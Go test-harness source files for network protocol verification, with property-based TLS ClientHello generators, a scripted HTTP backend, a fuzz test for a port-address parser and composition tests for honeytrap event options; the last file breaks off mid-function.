			body := vlib.UnHex(e.Body)
			for j := 2; j+1 < len(body); j += 2 {
				v := uint16(body[j])<<8 | uint16(body[j+1])
				if isGREASE(v) {
					n := next(v)
					body[j], body[j+1] = byte(n>>8), byte(n)
				}
			}
			d.Exts[i].Body = vlib.Hex(body)
		}
	}
	return d
}

// classification for non-triviality and labels
type shape struct {
	grease, unknown, dup int
	sni                  bool
}

func (c helloCase) shape() shape {
	var s shape
	for _, v := range c.Ciphers {
		if isGREASE(v) {
			s.grease++
		}
	}
	seen := map[uint16]bool{}
	for _, e := range c.Exts {
		if isGREASE(e.Type) {
			s.grease++
		} else if !structured[e.Type] {
			s.unknown++
		}
		if seen[e.Type] {
			s.dup++
		}
		seen[e.Type] = true
		if e.Type == 0 {
			s.sni = true
		}
		if e.Type == 10 {
			body := vlib.UnHex(e.Body)
			for j := 2; j+1 < len(body); j += 2 {
				if isGREASE(uint16(body[j])<<8 | uint16(body[j+1])) {
					s.grease++
				}
			}
		}
	}
	return s
}

func (s shape) nontrivial() bool { return s.grease > 0 || s.unknown > 0 || s.dup > 0 }

// ---------------------------------------------------------------- rapid generators

var knownCiphers = []uint16{
	0x002f, 0x0035, 0x000a, 0x0005, 0x0004, 0x003c, 0x009c, 0x009d, 0xc009, 0xc00a, 0xc013, 0xc014,
	0xc023, 0xc027, 0xc02b, 0xc02c, 0xc02f, 0xc030, 0xcca8, 0xcca9, 0x1301, 0x1302, 0x1303, 0x0033,
	0x0039, 0x0032, 0x0038, 0x0013, 0xc011, 0xc012, 0xc007,
}

// values that look like GREASE but are not in RFC 8701's list
var nearGrease = []uint16{0x0a1a, 0x1a0a, 0x0b0b, 0xa0a0, 0x0a0b, 0xaa0a, 0x0a00, 0x000a, 0x0a, 0xfafb, 0x0a0a + 1}

func genGrease(t *rapid.T, label string) uint16 {
	n := uint16(rapid.IntRange(0, 15).Draw(t, label))
	v := n<<4 | 0x0a
	return v<<8 | v
}

func genCipher(t *rapid.T) uint16 {
	switch rapid.IntRange(0, 9).Draw(t, "ckind") {
	case 0, 1, 2, 3, 4:
		return rapid.SampledFrom(knownCiphers).Draw(t, "cipher")
	case 5, 6:
		return genGrease(t, "cgrease")
	case 7:
		return rapid.SampledFrom([]uint16{0x00ff, 0x5600}).Draw(t, "scsv")
	case 8:
		return rapid.SampledFrom(nearGrease).Draw(t, "cnear")
	default:
		return rapid.Uint16().Draw(t, "crand")
	}
}

var knownGroups = []uint16{23, 24, 25, 29, 30, 256, 257, 21, 19, 0x6399, 4588}

func genGroup(t *rapid.T) uint16 {
	switch rapid.IntRange(0, 7).Draw(t, "gkind") {
	case 0, 1, 2, 3:
		return rapid.SampledFrom(knownGroups).Draw(t, "group")
	case 4, 5:
		return genGrease(t, "ggrease")
	case 6:
		return rapid.SampledFrom(nearGrease).Draw(t, "gnear")
	default:
		return rapid.Uint16().Draw(t, "grand")
	}
}

func genBytes(t *rapid.T, label string, max int) []byte {
	return rapid.SliceOfN(rapid.Byte(), 0, max).Draw(t, label)
}

// wellFormedBody returns a body the RFCs allow for an extension type the stack parses.
func wellFormedBody(t *rapid.T, typ uint16) []byte {
	switch typ {
	case 5: // status_request: ocsp, empty responder list, empty extensions
		return []byte{1, 0, 0, 0, 0}
	case 13: // signature_algorithms
		n := rapid.IntRange(1, 8).Draw(t, "nsig")
		var vs []uint16
		for i := 0; i < n; i++ {
			vs = append(vs, rapid.SampledFrom([]uint16{0x0403, 0x0804, 0x0401, 0x0503, 0x0805, 0x0501, 0x0806, 0x0601, 0x0201, 0x0203, 0x0a0a, 0x1a1a}).Draw(t, "sig"))
		}
		return groupsBody(vs)
	case 16: // ALPN
		n := rapid.IntRange(1, 3).Draw(t, "nalpn")
		var list []byte
		for i := 0; i < n; i++ {
			p := rapid.SampledFrom([]string{"h2", "http/1.1", "\x0a\x0a", "spdy/3", "x"}).Draw(t, "alpn")
			list = append(list, byte(len(p)))
			list = append(list, p...)
		}
		return append(be16(len(list)), list...)
	case 18, 13172: // SCT, NPN: empty in a client hello
		return nil
	case 35: // session ticket: empty or an opaque ticket
		if rapid.Bool().Draw(t, "ticket") {
			return genBytes(t, "ticketbytes", 120)
		}
		return nil
	case 0xff01: // renegotiation_info of an initial handshake
		return []byte{0}
	}
	return nil
}

var commonUnknown = []uint16{1, 2, 3, 4, 6, 7, 8, 9, 12, 14, 15, 17, 19, 20, 21, 22, 23, 24, 27, 28, 34, 41, 42, 43, 44, 45, 47, 49, 50, 51, 57, 17513, 30032, 0xfe0d, 0xffff, 0x00ff, 0x0b0b, 0x0a1a, 0xa0a0}

func genUnknownType(t *rapid.T) uint16 {
	var v uint16
	if rapid.IntRange(0, 3).Draw(t, "ukind") == 0 {
		v = rapid.Uint16().Draw(t, "urand")
	} else {
		v = rapid.SampledFrom(commonUnknown).Draw(t, "utype")
	}
	if structured[v] || isGREASE(v) {
		v = 23
	}
	return v
}

func genUnknownBody(t *rapid.T, typ uint16) []byte {
	switch rapid.IntRange(0, 5).Draw(t, "ubody") {
	case 0, 1:
		return nil
	case 2:
		return []byte{0}
	case 3:
		if typ == 21 { // padding
			return make([]byte, rapid.IntRange(0, 600).Draw(t, "pad"))
		}
		// supported_versions-like list with GREASE inside
		return []byte{6, 0x3a, 0x3a, 3, 4, 3, 3}
	case 4:
		return genBytes(t, "ubytes", 64)
	default:
		return genBytes(t, "ubig", 1500)
	}
}

func genCase(t *rapid.T, maxCiphers, maxExts int) helloCase {
	var c helloCase
	c.RecVer = rapid.SampledFrom([]uint16{0x0301, 0x0301, 0x0303, 0x0300, 0x0302}).Draw(t, "recver")
	c.Ver = rapid.SampledFrom([]uint16{0x0303, 0x0303, 0x0303, 0x0302, 0x0301, 0x0301, 0x0300}).Draw(t, "ver")
	c.Random = vlib.Hex(rapid.SliceOfN(rapid.Byte(), 32, 32).Draw(t, "random"))
	c.SessionID = vlib.Hex(rapid.SliceOfN(rapid.Byte(), 0, 32).Draw(t, "sid"))
	if rapid.IntRange(0, 2).Draw(t, "sidkind") == 0 {
		c.SessionID = ""
	}
	nc := rapid.IntRange(1, maxCiphers).Draw(t, "nciphers")
	for i := 0; i < nc; i++ {
		c.Ciphers = append(c.Ciphers, genCipher(t))
	}
	c.Compression = []int{0}
	switch rapid.IntRange(0, 5).Draw(t, "comp") {
	case 0:
		c.Compression = []int{1, 0}
	case 1:
		c.Compression = []int{0, 1, 64}
	}
	c.ExtBlock = rapid.Bool().Draw(t, "extblock")

	// extensions
	budget := rapid.IntRange(0, maxExts).Draw(t, "nexts")
	var exts []ext
	add := func(typ uint16, body []byte, kind string) {
		if len(exts) < budget {
			exts = append(exts, ext{Type: typ, Body: vlib.Hex(body), Kind: kind})
		}
	}
	if rapid.IntRange(0, 3).Draw(t, "sni") != 0 {
		add(0, sniBody(rapid.SampledFrom(sniNames).Draw(t, "name")), "sni")
	}
	if rapid.IntRange(0, 3).Draw(t, "groups") != 0 {
		ng := rapid.IntRange(1, 8).Draw(t, "ngroups")
		var gs []uint16
		for i := 0; i < ng; i++ {
			gs = append(gs, genGroup(t))
		}
		add(10, groupsBody(gs), "groups")
	}
	if rapid.IntRange(0, 3).Draw(t, "points") != 0 {
		np := rapid.IntRange(0, 3).Draw(t, "npoints")
		var ps []uint8
		for i := 0; i < np; i++ {
			ps = append(ps, rapid.SampledFrom([]uint8{0, 0, 1, 2, 10, 0xaa, 255}).Draw(t, "point"))
		}
		add(11, pointsBody(ps), "points")
	}
	for len(exts) < budget {
		switch rapid.IntRange(0, 9).Draw(t, "ekind") {
		case 0, 1, 2:
			typ := rapid.SampledFrom([]uint16{5, 13, 16, 18, 35, 13172, 0xff01}).Draw(t, "ktype")
			add(typ, wellFormedBody(t, typ), "known")
		case 3, 4, 5:
			typ := genUnknownType(t)
			add(typ, genUnknownBody(t, typ), "unknown")
		case 6, 7:
			var body []byte
			if rapid.Bool().Draw(t, "gbody") {
				body = []byte{0}
			}
			add(genGrease(t, "egrease"), body, "grease")
		default:
			// duplicate an earlier extension (never server_name, supported_groups, ec_point_formats)
			var cand []ext
			for _, e := range exts {
				if e.Type != 0 && e.Type != 10 && e.Type != 11 {
					cand = append(cand, e)
				}
			}
			if len(cand) == 0 {
				add(23, nil, "unknown")
			} else {
				e := rapid.SampledFrom(cand).Draw(t, "dupof")
				add(e.Type, vlib.UnHex(e.Body), "dup")
			}
		}
	}
	if len(exts) > 1 {
		exts = rapid.Permutation(exts).Draw(t, "order")
	}
	c.Exts = exts

	// record-layer fragmentation of the handshake message
	hl := len(c.handshake())
	switch rapid.IntRange(0, 7).Draw(t, "reckind") {
	case 0, 1, 2:
	case 3:
		c.RecCuts = []int{rapid.IntRange(1, 6).Draw(t, "reccut-early")}
	case 4:
		c.RecCuts = []int{rapid.IntRange(1, hl-1).Draw(t, "reccut")}
	case 5, 6:
		k := rapid.IntRange(2, 6).Draw(t, "nreccuts")
		last := 0
		for i := 0; i < k; i++ {
			last += rapid.IntRange(1, max(1, hl/2)).Draw(t, "recgap")
			c.RecCuts = append(c.RecCuts, last)
		}
	default:
		step := rapid.IntRange(1, 40).Draw(t, "recstep")
		if hl/step > 400 {
			step = hl/400 + 1
		}
		for o := step; o < hl; o += step {
			c.RecCuts = append(c.RecCuts, o)
		}
	}
	// TCP segmentation of the stream
	sl := len(c.stream())
	switch rapid.IntRange(0, 6).Draw(t, "tcpkind") {
	case 0, 1, 2:
	case 3:
		c.TCPCuts = []int{rapid.IntRange(1, min(sl-1, 12)).Draw(t, "tcpcut-early")}
	case 4, 5:
		k := rapid.IntRange(1, 6).Draw(t, "ntcpcuts")
		last := 0
		for i := 0; i < k; i++ {
			last += rapid.IntRange(1, max(1, sl/2)).Draw(t, "tcpgap")
			c.TCPCuts = append(c.TCPCuts, last)
		}
	default:
		step := rapid.IntRange(1, 16).Draw(t, "tcpstep")
		if sl/step > 600 {
			step = sl/600 + 1
		}
		for o := step; o < sl; o += step {
			c.TCPCuts = append(c.TCPCuts, o)
		}
	}
	c.Leave = genLeave(t)
	ng := c.shape().grease
	for i := 0; i < ng; i++ {
		c.Regrease = append(c.Regrease, rapid.IntRange(0, 15).Draw(t, "regrease"))
	}
	return c
}

// genLeave draws the abandonment point: plain FIN keeps half of the weight (it is the
// cheapest history and what the rest of the dimensions were explored with so far).
func genLeave(t *rapid.T) leaveT {
	var l leaveT
	k := rapid.IntRange(0, 2*len(leaveModes)-1).Draw(t, "leave")
	if k < len(leaveModes) {
		l.Mode = leaveModes[k]
	} else {
		l.Mode = "fin"
	}
	l.Late = rapid.Bool().Draw(t, "leave-late")
	switch l.Mode {
	case "warning-alert":
		l.Arg = rapid.IntRange(0, len(warningAlerts)-1).Draw(t, "leave-alert")
	case "fatal-alert":
		l.Arg = rapid.IntRange(0, len(fatalAlerts)-1).Draw(t, "leave-alert")
	case "mid-record":
		// bytes delivered of a 75-byte record: inside the header, header only, first body bytes, all but one
		if rapid.Bool().Draw(t, "leave-cut-edge") {
			l.Arg = rapid.SampledFrom([]int{1, 2, 4, 5, 6, 9, 10, cutRecordLen - 1}).Draw(t, "leave-cut") - 1
		} else {
			l.Arg = rapid.IntRange(1, cutRecordLen-1).Draw(t, "leave-cut") - 1
		}
	case "wrong-flight":
		l.Arg = rapid.SampledFrom([]int{0, 1, 2, 33, 66, 130, 258, 514}).Draw(t, "leave-kx")
	}
	switch l.Mode {
	case "fin", "reset":
	default:
		l.RecVerRecords = rapid.IntRange(0, 3).Draw(t, "leave-recver") == 0
	}
	return l
}

func (c helloCase) String() string {
	return fmt.Sprintf("ver=%04x ciphers=%d exts=%d recs=%d segs=%d", c.Ver, len(c.Ciphers), len(c.Exts), len(pieces(c.handshake(), c.RecCuts)), len(c.chunks()))
}
