package c15

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"sync"
	"time"
)

// httpBackend is the HTTP origin the forward director points at: a raw listener that
// parses what arrives with net/http.ReadRequest, records it, and answers with the
// scripted reply bytes written in the scripted pieces.
type httpBackend struct {
	l    *net.TCPListener
	port int

	mu        sync.Mutex
	scripts   map[string]*httpScript
	seen      map[string][]*httpSeen // tag -> what arrived under that tag
	order     map[string][]string    // connection key (e....c.) -> tags in arrival order
	stray     []string               // requests without a (current) tag, parse errors
	remotes   []string               // peer addresses of accepted connections
	connSeq   int
	gen       int // bumped by reset: handlers of older connections record nothing
	openConns map[net.Conn]bool
}

type httpScript struct {
	reply []byte
	cuts  []int
}

type httpSeen struct {
	conn   int
	method string
	target string
	host   string
	proto  string
	header http.Header
	body   []byte
}

var tagRe = regexp.MustCompile(`^/e[0-9]{4}c[0-9]r[0-9]{2}`)

func httpTag(epoch, conn, req int) string { return fmt.Sprintf("/e%04dc%dr%02d", epoch%10000, conn, req) }

func newHTTPBackend(addr string) (*httpBackend, error) {
	l, p, err := listenTCP(addr)
	if err != nil {
		return nil, err
	}
	b := &httpBackend{l: l, port: p}
	b.reset()
	go b.serve()
	return b, nil
}

func (b *httpBackend) close() { b.l.Close() }

// reset forgets everything recorded and closes the connections still open.
func (b *httpBackend) reset() {
	b.mu.Lock()
	old := b.openConns
	b.gen++
	b.scripts = map[string]*httpScript{}
	b.seen = map[string][]*httpSeen{}
	b.order = map[string][]string{}
	b.stray = nil
	b.remotes = nil
	b.openConns = map[net.Conn]bool{}
	b.mu.Unlock()
	for c := range old {
		c.Close()
	}
}

func (b *httpBackend) install(tag string, s *httpScript) {
	b.mu.Lock()
	b.scripts[tag] = s
	b.mu.Unlock()
}

func (b *httpBackend) serve() {
	for {
		c, err := b.l.AcceptTCP()
		if err != nil {
			return
		}
		c.SetNoDelay(true)
		b.mu.Lock()
		b.connSeq++
		n := b.connSeq
		gen := b.gen
		b.remotes = append(b.remotes, c.RemoteAddr().String())
		b.openConns[c] = true
		b.mu.Unlock()
		go b.handle(c, n, gen)
	}
}

func (b *httpBackend) handle(c *net.TCPConn, n, gen int) {
	defer func() {
		c.Close()
		b.mu.Lock()
		delete(b.openConns, c)
		b.mu.Unlock()
	}()
	br := bufio.NewReaderSize(c, 4096)
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			if err != io.EOF {
				if ne, ok := err.(net.Error); !ok || !ne.Timeout() {
					b.mu.Lock()
					if gen == b.gen {
						b.stray = append(b.stray, fmt.Sprintf("backend connection %d: unparsable request: %v", n, err))
					}
					b.mu.Unlock()
				}
			}
			return
		}
		body, berr := io.ReadAll(req.Body)
		s := &httpSeen{conn: n, method: req.Method, target: req.RequestURI, host: req.Host, proto: req.Proto, header: req.Header.Clone(), body: body}
		tag := tagRe.FindString(req.RequestURI)
		b.mu.Lock()
		if gen != b.gen {
			b.mu.Unlock()
			return
		}
		sc := b.scripts[tag]
		if berr != nil {
			b.stray = append(b.stray, fmt.Sprintf("backend connection %d: %s %s: body unreadable after %d bytes: %v", n, req.Method, short([]byte(req.RequestURI)), len(body), berr))
		}
		if sc == nil {
			b.stray = append(b.stray, fmt.Sprintf("backend connection %d: request that no client sent in this form: %s %s", n, req.Method, short([]byte(req.RequestURI))))
		} else {
			b.seen[tag] = append(b.seen[tag], s)
			b.order[tag[:8]] = append(b.order[tag[:8]], tag)
		}
		b.mu.Unlock()
		if berr != nil {
			return
		}
		if sc == nil {
			c.Write([]byte("HTTP/1.1 400 Unknown Tag\r\nContent-Length: 0\r\n\r\n"))
			continue
		}
		for i, part := range split(sc.reply, sc.cuts) {
			if i > 0 && i <= 2 {
				time.Sleep(300 * time.Microsecond) // let the previous piece leave as its own segment
			}
			c.SetWriteDeadline(time.Now().Add(30 * time.Second))
			if _, err := c.Write(part); err != nil {
				return
			}
		}
	}
}

// snapshot returns copies of the records.
func (b *httpBackend) snapshot() (seen map[string][]*httpSeen, order map[string][]string, stray []string, remotes []string) {
	b.mu.Lock()
	defer b.mu.Unlock()
	seen = map[string][]*httpSeen{}
	for k, v := range b.seen {
		seen[k] = append([]*httpSeen(nil), v...)
	}
	order = map[string][]string{}
	for k, v := range b.order {
		order[k] = append([]string(nil), v...)
	}
	return seen, order, append([]string(nil), b.stray...), append([]string(nil), b.remotes...)
}
