package c16

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"verif/vlib"
)

// TestPinned re-plays the cases that exposed the defects repaired in listener/agent
// (one per defect, kept in testdata/pinned in the replay-file format). A case that
// fails again is reported under the test that owns it, so the written replay file can
// be fed back to the driver.
func TestPinned(t *testing.T) {
	r := vlib.Open(prop)
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	files, _ := filepath.Glob(filepath.Join("testdata", "pinned", "*.json"))
	sort.Strings(files)
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatalf("infra: %v", err)
		}
		var rec struct {
			Test string          `json:"test"`
			Case json.RawMessage `json:"case"`
		}
		if err := json.Unmarshal(data, &rec); err != nil {
			t.Fatalf("infra: %s: %v", f, err)
		}
		var cerr error
		var cs interface{}
		switch rec.Test {
		case "TestCodecPorts", "TestCodecLengths", "TestCodecSampled":
			var c codecCase
			if err := json.Unmarshal(rec.Case, &c); err != nil {
				t.Fatalf("infra: %s: %v", f, err)
			}
			cs, cerr = c, checkCodec(c)
		case "TestSessionModel":
			var c sessCase
			if err := json.Unmarshal(rec.Case, &c); err != nil {
				t.Fatalf("infra: %s: %v", f, err)
			}
			cs, cerr = c, checkSession(r, c)
		case "TestSessionBursts":
			var p burstParams
			if err := json.Unmarshal(rec.Case, &p); err != nil {
				t.Fatalf("infra: %s: %v", f, err)
			}
			cs, cerr = p, checkSession(r, burstCase(p.Rounds, p.Sizes, p.ReadBuf, p.Pair, p.Disc, p.Sync))
		case "TestSessionMerges":
			var m mergeCase
			if err := json.Unmarshal(rec.Case, &m); err != nil {
				t.Fatalf("infra: %s: %v", f, err)
			}
			cs, cerr = m, checkSession(r, m.session())
		default:
			t.Fatalf("infra: %s names unknown test %q", f, rec.Test)
		}
		r.Case("pinned/"+strings.TrimSuffix(filepath.Base(f), ".json"), "", nil)
		if cerr != nil {
			if strings.HasPrefix(cerr.Error(), "infra:") {
				t.Fatalf("%v", cerr)
			}
			r.Violation(t, rec.Test, cs, fmt.Sprintf("pinned case %s: %v", filepath.Base(f), cerr))
		}
	}
}
