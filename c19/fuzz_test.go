package c19

import (
	"strings"
	"testing"
)

// FuzzToAddr: arbitrary port strings against the reference parser.
func FuzzToAddr(f *testing.F) {
	for _, s := range append([]string{"tcp/80", "udp/[::1]:53", "tcp/127.0.0.1:65535", "tcp/localhost:80", "udp/[fe80::1%lo]:53", "tcp/192.0.2.256:80", "udp/192.0.2:53", "tcp/[1::2::3]:80"}, malformed...) {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 256 {
			return
		}
		// the reference covers IP-literal hosts and plain decimal ports; everything else the
		// statement does not classify (host names need DNS, "+80", "080", zones, 0.0.0.0)
		if a, ok := refParse(s); ok {
			if a.IP == "0.0.0.0" || a.IP == "::" {
				return
			}
			rest := s[len(a.Proto)+1:]
			for i := 0; i+1 < len(rest); i++ {
				if (i == 0 || rest[i-1] == ':') && rest[i] == '0' && rest[i+1] >= '0' && rest[i+1] <= '9' {
					return // leading zero in the port
				}
			}
			if err := checkParse(s); err != nil {
				t.Fatal(err)
			}
			return
		}
		// host part that is not an IP literal (TestToAddrHosts): a name, zone or lenient numeric
		// form may be rejected or become one concrete address, never the wildcard; a host that can
		// be neither a literal nor a name must be rejected - checkParse knows which
		if _, v, _ := refClassify(s); v == vSkip {
			return
		}
		if _, v, class := refClassify(s); v == vSoft || v == vZoned || (v == vMalformed && class != "") {
			if port := s[strings.LastIndexByte(s, ':')+1:]; len(port) > 1 && port[0] == '0' {
				return // leading zero in the port
			}
			if err := checkParse(s); err != nil {
				t.Fatal(err)
			}
			return
		}
		// malformed elsewhere: only assert for strings that are clearly outside the accepted
		// grammar (no host part at all)
		for _, c := range s {
			if c == ':' || c == '[' || c == '%' || c == '+' || c == ' ' {
				return
			}
		}
		if err := checkParse(s); err != nil {
			t.Fatal(err)
		}
	})
}
