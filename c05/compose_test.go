package c05

import (
	"fmt"
	"net"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/honeytrap/honeytrap/event"
	"pgregory.net/rapid"

	"verif/vlib"
)

// Option COMPOSITION: the event package exports combinators that turn a series of
// options into one option (NewWith, Conn.Options() built by WithConn - also through
// WithConn on an existing *event.Conn, which appends) and Apply, which callers use
// inside their own option closures. A combinator must behave as the in-order
// application of its parts to the TARGET event: merging keeps what the target already
// has, copying overwrites it, whatever the nesting. The tree below is flattened to its
// leaves for the same map model TestOptionsAgainstModel uses.

type opNode struct {
	Comb string   `json:"comb,omitempty"` // "" = leaf, else NewWith | Conn | ConnAppend | ApplyFn
	Step *opStep  `json:"step,omitempty"`
	Kids []opNode `json:"kids,omitempty"`
	Cut  int      `json:"cut,omitempty"` // ConnAppend: options given to the first WithConn
}

type composeCase struct {
	// Targets: the options each target event is created with (event.New) before the
	// composed options reach it. The composed options are built ONCE and applied to
	// every target (that is how services use them: services.EventOptions, Conn.Options()).
	Targets [][]opStep `json:"targets"`
	Tree    []opNode   `json:"tree"`
	Mode    string     `json:"mode"` // "new": New(pre..., tree...), "apply": Apply(New(pre...), tree...), "call": opt(e) one by one
}

var combinators = []string{"NewWith", "Conn", "ConnAppend", "ApplyFn"}

type nopConn struct{}

func (nopConn) Read([]byte) (int, error)         { return 0, fmt.Errorf("nop") }
func (nopConn) Write(p []byte) (int, error)      { return len(p), nil }
func (nopConn) Close() error                     { return nil }
func (nopConn) LocalAddr() net.Addr              { return &net.TCPAddr{IP: net.IPv4(10, 0, 0, 1), Port: 1} }
func (nopConn) RemoteAddr() net.Addr             { return &net.TCPAddr{IP: net.IPv4(10, 0, 0, 2), Port: 2} }
func (nopConn) SetDeadline(time.Time) error      { return nil }
func (nopConn) SetReadDeadline(time.Time) error  { return nil }
func (nopConn) SetWriteDeadline(time.Time) error { return nil }

// stepOption builds the option of a leaf without touching a model.
func stepOption(s opStep) event.Option { return applyStep(s, map[string]interface{}{}) }

func (n opNode) build() event.Option {
	if n.Comb == "" {
		return stepOption(*n.Step)
	}
	var kids []event.Option
	for _, k := range n.Kids {
		kids = append(kids, k.build())
	}
	switch n.Comb {
	case "NewWith":
		return event.NewWith(kids...)
	case "Conn":
		return event.WithConn(nopConn{}, kids...).Options()
	case "ConnAppend":
		cut := n.Cut
		if cut < 0 || cut > len(kids) {
			cut = len(kids)
		}
		inner := event.WithConn(nopConn{}, kids[:cut]...)
		return event.WithConn(inner, kids[cut:]...).Options()
	case "ApplyFn":
		return func(e event.Event) { event.Apply(e, kids...) }
	}
	panic("unknown combinator " + n.Comb)
}

func (n opNode) leaves(out []opStep) []opStep {
	if n.Comb == "" {
		return append(out, *n.Step)
	}
	for _, k := range n.Kids {
		out = k.leaves(out)
	}
	return out
}

// observe renders the event's store the way the model does.
func observe(e event.Event) map[string]string {
	got := map[string]string{}
	e.Range(func(k, v interface{}) bool {
		ks, ok := k.(string)
		if !ok {
			return true
		}
		switch ks {
		case "error":
			got[ks] = "<error>"
		case "stacktrace":
			got[ks] = "<stack>"
		default:
			got[ks] = fmt.Sprint(v)
		}
		return true
	})
	return got
}

// rawValue loads one key's value.
func rawValue(e event.Event, key string) (interface{}, bool) {
	var out interface{}
	found := false
	e.Range(func(k, v interface{}) bool {
		if k == key {
			out, found = v, true
			return false
		}
		return true
	})
	return out, found
}

// compareModel compares an event with the model; model["date"] == "<date>" stands for
// "the creation time event.New stored" (a time.Time), which merging must keep.
func compareModel(e event.Event, model map[string]interface{}) error {
	got := observe(e)
	if _, ok := got["date"]; !ok {
		return fmt.Errorf("event has no date")
	}
	if model["date"] == "<date>" {
		v, _ := rawValue(e, "date")
		if _, ok := v.(time.Time); !ok {
			return fmt.Errorf("key \"date\" = %q (%T), model says the creation time event.New stored is still there", fmt.Sprint(v), v)
		}
		got["date"] = "<date>"
	}
	for k, v := range model {
		if got[k] != v {
			return fmt.Errorf("key %q = %q, model says %q", k, got[k], v)
		}
	}
	for k := range got {
		if _, ok := model[k]; !ok {
			return fmt.Errorf("unexpected key %q in event", k)
		}
	}
	return nil
}

func checkCompose(c composeCase) error {
	if len(c.Targets) == 0 {
		c.Targets = [][]opStep{nil}
	}
	// the composed options exist once, before any target does
	var opts []event.Option
	var flat []opStep
	for _, n := range c.Tree {
		opts = append(opts, n.build())
		flat = n.leaves(flat)
	}
	for ti, pre := range c.Targets {
		model := map[string]interface{}{"date": "<date>"}
		var preOpts []event.Option
		for _, s := range pre {
			preOpts = append(preOpts, applyStep(s, model))
		}
		for _, s := range flat {
			applyStep(s, model)
		}
		var e event.Event
		switch c.Mode {
		case "new":
			e = event.New(append(append([]event.Option{}, preOpts...), opts...)...)
		case "call":
			e = event.New(preOpts...)
			for _, o := range opts {
				o(e)
			}
		default:
			e = event.Apply(event.New(preOpts...), opts...)
		}
		if err := compareModel(e, model); err != nil {
			return fmt.Errorf("target %d: composed options differ from the in-order application of their parts: %v", ti, err)
		}
		m, err := serialises(e)
		if err != nil {
			return fmt.Errorf("target %d: %v", ti, err)
		}
		// what the channels write is the same store
		for k, v := range model {
			if k == "date" || v == "<error>" || v == "<stack>" {
				continue
			}
			vs, _ := v.(string)
			if s, ok := m[k].(string); ok && utf8.ValidString(vs) && s != vs {
				return fmt.Errorf("target %d: serialised key %q = %q, model says %q", ti, k, s, v)
			}
		}
	}
	return nil
}

var stepArgs = []string{"", "a", "b", "ssh", "\x00\xff", "日本", "X-\x00", "h\x01\x7f", "tab\tnl\n", "q\"uote\\", " "}
var stepPorts = []int{0, 1, 22, 255, 65535}

// genStep draws one leaf option; mapBias = how many of 6 draws are state-dependent
// (MergeFrom / IfAbsent) or overwriting (CopyFrom) map options.
func genStep(rt *rapid.T, mapBias int) opStep {
	var s opStep
	if rapid.IntRange(0, 5).Draw(rt, "ismap") < mapBias {
		s.Op = rapid.SampledFrom([]string{"MergeFrom", "MergeFrom", "CopyFrom", "IfAbsent"}).Draw(rt, "mop")
		if s.Op == "IfAbsent" {
			s.Arg = rapid.SampledFrom(mapKeys).Draw(rt, "key")
			s.Port = rapid.SampledFrom(stepPorts).Draw(rt, "port")
			return s
		}
		s.Map = map[string]interface{}{}
		for _, k := range rapid.SliceOfNDistinct(rapid.SampledFrom(mapKeys), 0, 5, rapid.ID[string]).Draw(rt, "keys") {
			s.Map[k] = genValue(rt, k)
		}
		return s
	}
	s.Op = rapid.SampledFrom(simpleOps).Draw(rt, "op")
	s.Arg = rapid.SampledFrom(stepArgs).Draw(rt, "arg")
	s.Port = rapid.SampledFrom(stepPorts).Draw(rt, "port")
	return s
}

func genNode(rt *rapid.T, depth int) opNode {
	if depth >= 3 || rapid.IntRange(0, 2).Draw(rt, "leaf") == 0 {
		s := genStep(rt, 3)
		return opNode{Step: &s}
	}
	n := opNode{Comb: rapid.SampledFrom(combinators).Draw(rt, "comb")}
	k := rapid.IntRange(0, 3).Draw(rt, "kids")
	for i := 0; i < k; i++ {
		n.Kids = append(n.Kids, genNode(rt, depth+1))
	}
	if n.Comb == "ConnAppend" {
		n.Cut = rapid.IntRange(0, k).Draw(rt, "cut")
	}
	return n
}

func depthOf(n opNode) int {
	if n.Comb == "" {
		return 0
	}
	d := 0
	for _, k := range n.Kids {
		if x := depthOf(k); x > d {
			d = x
		}
	}
	return d + 1
}

// nestedCollision: a state-dependent leaf sits inside a combinator and meets a key the
// target already holds at that moment (the situation in which "evaluate the parts
// somewhere else" and "apply the parts to the target" differ).
func nestedCollision(c composeCase) bool {
	for _, pre := range c.Targets {
		model := map[string]interface{}{"date": "<date>"}
		for _, s := range pre {
			applyStep(s, model)
		}
		hit := false
		var walk func(n opNode, depth int)
		walk = func(n opNode, depth int) {
			if n.Comb == "" {
				s := *n.Step
				if depth > 0 {
					switch s.Op {
					case "MergeFrom":
						for k := range s.Map {
							if hasKey(model, k) {
								hit = true
							}
						}
					case "IfAbsent":
						if hasKey(model, s.Arg) {
							hit = true
						}
					}
				}
				applyStep(s, model)
				return
			}
			for _, k := range n.Kids {
				walk(k, depth+1)
			}
		}
		for _, n := range c.Tree {
			walk(n, 0)
		}
		if hit {
			return true
		}
	}
	return false
}

func TestOptionComposition(t *testing.T) {
	r := vlib.Open(prop)
	var cc composeCase
	if vlib.ReplayCase("TestOptionComposition", &cc) {
		if err := checkCompose(cc); err != nil {
			r.Violation(t, "TestOptionComposition", cc, err.Error())
		}
		return
	}
	r.Rule("option composition: trees of depth 0..3 over the exported combinators (NewWith, Conn.Options() via WithConn incl. appending to an existing *event.Conn, closures using Apply) with constructor / MergeFrom / CopyFrom / Has-guarded leaves, built once and applied (New, Apply or direct call) to 1..2 target events that were created with 0..4 options of their own; the result must equal the in-order application of the leaves to each target in the map model; non-trivial = a merging leaf nested inside a combinator meets a key its target already holds; distinct by case")
	r.Rapid(t, "TestOptionComposition", r.Pick(5000, 80000), func(rt *rapid.T) {
		var c composeCase
		nt := rapid.IntRange(1, 2).Draw(rt, "targets")
		for i := 0; i < nt; i++ {
			np := rapid.IntRange(0, 4).Draw(rt, "npre")
			pre := []opStep{}
			for j := 0; j < np; j++ {
				pre = append(pre, genStep(rt, 1))
			}
			c.Targets = append(c.Targets, pre)
		}
		top := rapid.IntRange(1, 3).Draw(rt, "top")
		for i := 0; i < top; i++ {
			c.Tree = append(c.Tree, genNode(rt, 0))
		}
		c.Mode = rapid.SampledFrom([]string{"new", "apply", "call"}).Draw(rt, "mode")
		maxd := 0
		for _, n := range c.Tree {
			if d := depthOf(n); d > maxd {
				maxd = d
			}
		}
		fp := ""
		if nestedCollision(c) {
			fp = vlib.JSON(c)
		}
